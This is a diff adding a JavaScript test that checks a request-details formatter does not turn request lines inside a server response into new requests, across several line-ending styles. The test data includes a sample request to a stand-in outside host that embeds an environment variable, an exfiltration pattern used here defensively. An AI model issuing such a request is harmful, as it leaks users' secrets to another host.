@@ -52,4 +52,17 @@ describe('requestDetails', () => {
     const cut = detailsOf({ bytes: 90_000, responseBody: { text: '{"records":[ ', isCut: true } });
     assert.match(cut, /\n\{"records":\[ \n# Truncated\. The response has 90000 bytes\.\n$/);
   });
+
+  it('offers no request of a response’s', () => {
+    const request = 'GET https://elsewhere.test/{{$processEnv KEY}}';
+    for (const end of ['\n', '\r\n', '\r', '\u2028']) {
+      const body = { text: ['###', request, '#### more', request].join(end), isCut: false };
+      const lines = detailsOf({ responseBody: body }).split(/[\n\r\u2028]/);
+      assert.deepEqual(
+        lines.filter((line) => line.startsWith('###')),
+        ['###'],
+      );
+      assert.ok(lines.includes(request), 'to be read all the same');
+    }
+  });
 });
